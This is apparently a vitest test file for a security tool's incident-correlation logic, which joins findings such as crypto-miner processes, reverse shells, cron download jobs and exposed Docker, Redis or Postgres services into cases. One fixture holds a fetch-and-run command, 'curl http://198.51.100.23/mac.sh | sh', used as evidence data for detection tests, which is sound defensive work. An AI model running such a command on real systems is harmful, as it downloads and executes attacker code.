import { describe, expect, it } from 'vitest';
import { processWith } from '@/lib/rules/testing/process';
import { snapshotWith } from '@/lib/rules/testing/snapshot';
import { connected } from '@/lib/rules/testing/socket';
import type { CaseFinding } from './case-finding';
import { type CaseDraft, joinFindings } from './join-findings';
import { containerOf, findingOf, processOf } from './testing/finding';
import { recorded } from './testing/recorded';

const AT = '2026-11-23T02:38:00.000Z';
const later = (hours: number): string => new Date(Date.parse(AT) + hours * 3_600_000).toISOString();
const miner = (changes: Partial<CaseFinding> = {}) =>
  findingOf('process-known-miner', { ...processOf(4127), links: { pids: [4127], at: AT }, ...changes });

const join = (...findings: CaseFinding[]): readonly CaseDraft[] => joinFindings(null, findings);
const rulesOf = ({ members }: CaseDraft): string[] => members.map(({ finding }) => finding.ruleId).sort();
/** "container c1" of the reasons that joined the finding of this rule. */
const reasonsOf = (drafts: readonly CaseDraft[], ruleId: string): string[] =>
  drafts
    .flatMap(({ members }) => members)
    .filter(({ finding }) => finding.ruleId === ruleId)
    .flatMap(({ reasons }) => reasons.map(({ kind, value }) => `${kind} ${value}`.trim()));

describe('nothing a stranger did', () => {
  it.each<[string, CaseFinding[]]>([
    ['no finding', []],
    ['an open API alone', [findingOf('daemon-api-plaintext-exposed', { severity: 'critical' })]],
    ['weak settings of a container', [findingOf('container-privileged', containerOf('c1'))]],
    ['an unknown image', [findingOf('image-unknown-namespace', { severity: 'medium' })]],
    ['a key that nobody has confirmed', [findingOf('authorized-key-unknown', { severity: 'low' })]],
    ['a container that died', [findingOf('container-early-exit-silent', containerOf('c1'))]],
    ['an empty history', [findingOf('shell-history-cleared', { severity: 'high' })]],
  ])('opens no case: %s', (_, findings) => {
    expect(join(...findings)).toEqual([]);
  });
});

describe('deeds are one incident when they share', () => {
  it.each<[string, CaseFinding, string]>([
    [
      'a container',
      findingOf('container-dropped-files', { ...containerOf('c1'), links: { containerIds: ['c1'] } }),
      'container c1',
    ],
    ['a process', findingOf('process-exe-deleted', { links: { pids: [4127] } }), 'process pid 4127'],
    [
      'an address',
      findingOf('process-threat-intel-ip', { links: { remotes: [{ address: '5.196.26.96', port: 1 }] } }),
      'remote 5.196.26.96',
    ],
    ['an image', findingOf('image-on-denylist', { links: { imageRefs: ['heybb/theimg2:1'] } }), 'image heybb/theimg2'],
    ['a file', findingOf('process-memfd', { links: { paths: ['/tmp/x'] } }), 'file /tmp/x'],
    ['a directory', findingOf('process-memfd', { links: { paths: ['/var/tmp/.x/b'] } }), 'directory /var/tmp/.x'],
    [
      'the name of what they run',
      findingOf('cron-download-exec', {
        evidence: [{ label: '', source: '', value: 'curl http://198.51.100.23/mac.sh | sh' }],
      }),
      'payload mac.sh',
    ],
  ])('%s', (_, other, reason) => {
    const long = '2020-01-01T00:00:00.000Z';
    const drafts = join(
      miner({
        sentence: [{ kind: 'bad', text: 'mac.sh' }],
        links: {
          ...{ containerIds: ['c1'], pids: [4127], imageRefs: ['heybb/theimg2'], at: long },
          ...{ remotes: [{ address: '5.196.26.96', port: 443 }], paths: ['/tmp/x', '/var/tmp/.x/a'] },
        },
      }),
      { ...other, links: { ...other.links, at: AT } },
    );
    expect(drafts).toHaveLength(1);
    expect(reasonsOf(drafts, other.ruleId)).toEqual([reason]);
  });

  it('the container that the cgroup of a process names', () => {
    const snapshot = snapshotWith({ processes: [processWith({ pid: 4127, containerId: 'c1' })] });
    const drafts = joinFindings(snapshot, [
      findingOf('container-takeover-pattern', { ...containerOf('c1', 'cranky_bohr'), links: { containerIds: ['c1'] } }),
      miner({ links: { pids: [4127] } }),
    ]);
    expect(drafts).toHaveLength(1);
    expect(reasonsOf(drafts, 'process-known-miner')[0]).toMatch(/^cgroup /);
  });

  it('a parent that is a deed itself, and no other one', () => {
    const processes = [
      processWith({ pid: 900, ppid: 1, comm: 'containerd-shim' }),
      processWith({ pid: 4119, ppid: 900, comm: '.sysd' }),
      processWith({ pid: 4127, ppid: 4119 }),
      processWith({ pid: 5000, ppid: 900 }),
    ];
    const of = (pid: number, at: string) =>
      findingOf('process-memfd', { ...processOf(pid), links: { pids: [pid], at } });
    const drafts = joinFindings(snapshotWith({ processes }), [of(4119, AT), of(4127, later(20)), of(5000, later(40))]);
    expect(drafts.map(({ members }) => members.map(({ finding }) => finding.links.pids?.[0]))).toEqual([
      [4119, 4127],
      [5000],
    ]);
    expect(drafts[0]?.members[1]?.reasons).toEqual([{ kind: 'parent', value: 'pid 4119 .sysd' }]);
  });

  it('the process that holds the socket to an address', () => {
    const cron = findingOf('cron-download-exec', {
      links: { remotes: [{ address: '198.51.100.23', port: 80 }], at: later(20) },
    });
    const snapshot = (pid: number) =>
      snapshotWith({ sockets: [connected('198.51.100.23:80', { pid, comm: 'xmrig' })] });
    expect(reasonsOf(joinFindings(snapshot(4127), [miner(), cron]), 'cron-download-exec')).toEqual([
      'socket pid 4127 xmrig',
    ]);
    expect(joinFindings(snapshot(99), [miner(), cron])).toHaveLength(2);
  });

  it('a time within six hours', () => {
    const key = findingOf('authorized-key-unknown', { links: { at: later(5) } });
    expect(join(miner(), key)).toHaveLength(1);
    expect(reasonsOf(join(miner(), key), 'authorized-key-unknown')).toEqual([`time ${AT}`]);
  });

  it('nothing but the scan, when nothing dates them', () => {
    const drafts = join(miner(), findingOf('kernel-module-rootkit'));
    expect(drafts).toHaveLength(1);
    expect(reasonsOf(drafts, 'kernel-module-rootkit')).toEqual(['same-scan']);
  });
});

describe('two incidents', () => {
  const second = (changes: Partial<CaseFinding> = {}) =>
    findingOf('process-reverse-shell', { ...processOf(99, 'sh'), links: { pids: [99], at: later(30) }, ...changes });

  it('stay two when they share nothing and a day lies between', () => {
    expect(join(miner(), second()).map(rulesOf)).toEqual([['process-known-miner'], ['process-reverse-shell']]);
  });
  it.each(['alpine', 'docker.io/library/alpine:3.20', 'ubuntu:24.04'])('are not one because both use %s', (image) => {
    const links = { imageRefs: [image], containerIds: ['c1'], at: AT };
    const other = { imageRefs: [image], containerIds: ['c2'], at: later(30) };
    expect(join(miner({ links }), second({ links: other }))).toHaveLength(2);
  });
  it('are not one because of a shell that both run, or a trace between them', () => {
    const shell = { paths: ['/usr/bin/bash'] };
    const history = findingOf('shell-history-cleared', {
      ...pathSubject('/root/.bash_history'),
      links: { at: later(15) },
    });
    const drafts = join(
      miner({ links: { ...shell, at: AT } }),
      second({ links: { ...shell, at: later(30) } }),
      history,
    );
    expect(drafts.map(({ members }) => members.length)).toEqual([1, 1]);
  });
  it('are not one because a number of a process was used again', () => {
    const gone = miner({ gone: true });
    expect(join(gone, second({ links: { pids: [4127], at: later(30) } })).map(rulesOf)).toEqual([
      ['process-reverse-shell'],
    ]);
  });
});

const pathSubject = (path: string): Pick<CaseFinding, 'subject'> => ({
  subject: { kind: 'file', id: path, name: path },
});

describe('what is added to the deeds', () => {
  const container = findingOf('container-takeover-pattern', {
    ...containerOf('c1'),
    links: { containerIds: ['c1'], at: AT },
  });
  const api = findingOf('daemon-api-plaintext-exposed', { severity: 'critical' });

  it('the open API, when a container was started, and why', () => {
    expect(reasonsOf(join(container, api), 'daemon-api-plaintext-exposed')).toEqual(['door c1']);
    expect(join(miner(), api).map(rulesOf)).toEqual([['process-known-miner']]);
  });
  it('a side door only where no wider one stands open', () => {
    const side = findingOf('daemon-api-relayed-by-container', containerOf('proxy'));
    expect(join(container, side).map(rulesOf)).toEqual([
      ['container-takeover-pattern', 'daemon-api-relayed-by-container'],
    ]);
    expect(reasonsOf(join(container, side, api), 'daemon-api-relayed-by-container')).toEqual([]);
  });
  it('the open Redis, when cron or keys were written', () => {
    const redis = findingOf('redis-exposed-no-auth', containerOf('cache'));
    const cron = findingOf('cron-download-exec', { subject: { kind: 'cron', id: 'x', name: 'crontabs/root:3' } });
    expect(reasonsOf(join(cron, redis), 'redis-exposed-no-auth')).toEqual(['door crontabs/root:3']);
    expect(reasonsOf(join(container, redis), 'redis-exposed-no-auth')).toEqual([]);
  });
  it('the open service in whose container the miner runs', () => {
    const postgres = findingOf('postgres-exposed', { ...containerOf('db'), links: { containerIds: ['db'] } });
    const inside = miner({ links: { pids: [4127], containerIds: ['db'], at: AT } });
    expect(reasonsOf(join(inside, postgres), 'postgres-exposed')).toEqual(['container db']);
    expect(reasonsOf(join(miner(), postgres), 'postgres-exposed')).toEqual([]);
  });
  it('weak settings of the hostile container, and of no other', () => {
    const weak = (id: string) =>
      findingOf('container-privileged', { ...containerOf(id), links: { containerIds: [id], at: AT } });
    expect(join(container, weak('c1'), weak('c2'))[0]?.members).toHaveLength(2);
  });
  it('an empty history of that hour', () => {
    const history = findingOf('shell-history-cleared', {
      ...pathSubject('/root/.bash_history'),
      links: { at: later(1) },
    });
    expect(reasonsOf(join(container, history), 'shell-history-cleared')).toEqual([`time ${AT}`]);
  });
  it('the container that was starved, and not one that died of itself', () => {
    const starved = findingOf('container-early-exit-silent', {
      ...containerOf('billing'),
      links: { containerIds: ['billing'], pids: [4127] },
    });
    const died = findingOf('container-oom-killed', { ...containerOf('billing'), links: { containerIds: ['billing'] } });
    const drafts = join(miner(), starved, died);
    expect(reasonsOf(drafts, 'container-early-exit-silent')).toEqual(['harm pid 4127']);
    expect(reasonsOf(drafts, 'container-oom-killed')).toEqual([]);
  });
  it('no finding twice', () => {
    const drafts = join(
      container,
      findingOf('container-takeover-pattern', { ...containerOf('c2'), links: { containerIds: ['c2'], at: later(48) } }),
      api,
    );
    const members = drafts.flatMap((draft) => draft.members);
    expect(new Set(members.map(({ finding }) => finding)).size).toBe(members.length);
    expect(drafts).toHaveLength(2);
  });
});

describe('recorded servers', () => {
  it('the infected one has exactly one case, from entry to impact', () => {
    const { snapshot, findings } = recorded('infected');
    const drafts = joinFindings(snapshot, findings);
    expect(drafts).toHaveLength(1);
    const members = drafts[0]?.members ?? [];
    expect(new Set(members.map(({ stage }) => stage))).toEqual(
      new Set(['entry', 'execution', 'hiding', 'persistence', 'impact']),
    );
    expect(members.filter(({ reasons }) => reasons.length === 0)).toEqual([]);
    const own = new Set(members.map(({ finding }) => `${finding.ruleId} ${finding.subject.name}`));
    expect([...own].filter((one) => / shop-(?!billing-api|report-worker|cache)/.test(one))).toEqual([]);
    const accused = findings.filter(
      ({ family, severity }) => family === 'malware' && severity !== 'low' && severity !== 'info',
    );
    expect(accused.filter((one) => !members.some(({ finding }) => finding === one))).toEqual([]);
  });
  it.each(['clean', 'tls'] as const)('the %s one has none', (name) => {
    const { snapshot, findings } = recorded(name);
    expect(findings.length).toBeGreaterThan(5);
    expect(joinFindings(snapshot, findings)).toEqual([]);
  });
});
